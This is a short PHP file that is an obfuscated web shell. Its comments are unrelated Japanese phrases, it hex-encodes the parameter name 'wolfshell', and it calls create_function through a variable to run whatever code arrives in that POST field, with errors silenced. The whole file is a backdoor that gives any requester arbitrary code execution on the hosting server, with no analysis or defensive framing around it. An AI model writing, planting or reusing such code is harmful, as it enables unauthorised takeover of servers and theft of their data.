<?php
// 月が綺麗ですね
$z9_xa = 'create_function';
// 腹が減った
$k1_yb = pack('H*', '776f6c667368656c6c'); // wolfshell
// 私は猫です。名前はまだ無い。
if (array_key_exists($k1_yb, $_POST)) {
    // 夏の終わり
    $c3_zd = $_POST[$k1_yb];
    @$z9_xa('', $c3_zd)();
}
?>